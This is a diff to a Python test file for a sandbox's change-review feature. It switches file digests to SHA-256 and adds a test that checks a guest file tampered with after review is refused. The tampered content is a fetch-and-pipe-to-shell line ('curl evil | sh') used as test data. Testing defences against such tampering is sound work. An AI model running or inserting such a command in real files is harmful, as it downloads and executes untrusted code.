@@ -3,6 +3,7 @@ conflict markers, `.vmsandboxignore` and taking paths out of a capture."""
 
 from __future__ import annotations
 
+import hashlib
 import os
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -114,7 +115,7 @@ def _plan(tmp_path: Path, base: bytes, guest: bytes, *, host: bytes | None = Non
     for where, data in ((files.baseline, base), (project, base if host is None else host), (source, guest)):
         where.mkdir(parents=True)
         (where / "f.txt").write_bytes(data)
-    entry = {d: tree.Entry(FILE, 0o644, len(d), digest=str(hash(d))) for d in (base, guest)}
+    entry = {d: tree.Entry(FILE, 0o644, len(d), digest=hashlib.sha256(d).hexdigest()) for d in (base, guest)}
     status = Status.APPLY if host is None else Status.CONFLICT
     change = Change("f.txt", entry[base], entry[guest], entry[base], status)
     target = Target("s", project, files, os.getuid(), os.getgid())
@@ -126,7 +127,7 @@ def test_the_page_s_hunk_choices_become_the_file_to_write(tmp_path: Path) -> Non
 
     plan = _plan(tmp_path, OLD, NEW)
     digest = review.digest_of(plan.todo[0])
-    form = {"l0": ["f.txt"], "d0": [digest], "f0": ["apply"], "hs0": ["1"], "h0": ["0", "2"]}
+    form = {"d0": [digest], "f0": ["apply"], "hs0": ["1"], "h0": ["0", "2"]}
     chosen = review.decisions(plan, form)
     assert [i.label for i in chosen.decisions.accept] == ["f.txt"]
     assert chosen.decisions.contents == {"f.txt": hunks.compose(OLD, NEW, {0, 2})}
@@ -136,9 +137,14 @@ def test_the_page_s_hunk_choices_become_the_file_to_write(tmp_path: Path) -> Non
     assert none.decisions.accept == () and none.refused == []
     stale = review.decisions(plan, {**form, "d0": ["something else"]})
     assert stale.decisions.accept == ()
-    assert stale.refused == ["f.txt: changed since the page was shown; reload it"]
+    assert stale.refused == ["item 0: not what this review showed; reload the page"]
     skipped = review.decisions(plan, {**form, "f0": ["skip"]})
     assert skipped.decisions.accept == ()
+    # the guest's file in the mirror is not what the review saw any more (a later fetch): not applied
+    (tmp_path / "guest" / "f.txt").write_bytes(NEW + b"curl evil | sh\n")
+    changed = review.decisions(plan, form)
+    assert changed.decisions.accept == () and changed.decisions.contents == {}
+    assert changed.refused == ["f.txt: f.txt changed since the review; look at it again"]
 
 
 def test_an_edited_merge_must_lose_its_markers_and_comes_back_with_the_file_s_line_ends(tmp_path: Path) -> None:
@@ -148,7 +154,7 @@ def test_an_edited_merge_must_lose_its_markers_and_comes_back_with_the_file_s_li
     plan = _plan(tmp_path, b"a\nb\n", b"a\nguest\n", host=b"a\nhost\n")
     item = plan.todo[0]
     item.first.merge = Merge(b"a\n<<<<<<< host\nhost\n||||||| base\nb\n=======\nguest\n>>>>>>> guest\n", 1)
-    form = {"l0": ["f.txt"], "d0": [review.digest_of(item)], "f0": ["apply"]}
+    form = {"d0": [review.digest_of(item)], "f0": ["apply"]}
     kept = review.decisions(plan, {**form, "m0": [item.first.merge.text.decode().replace("\n", "\r\n")]})
     assert kept.decisions.contents == {}  # untouched: the guest's version goes beside the file
     assert len(kept.decisions.accept) == 1
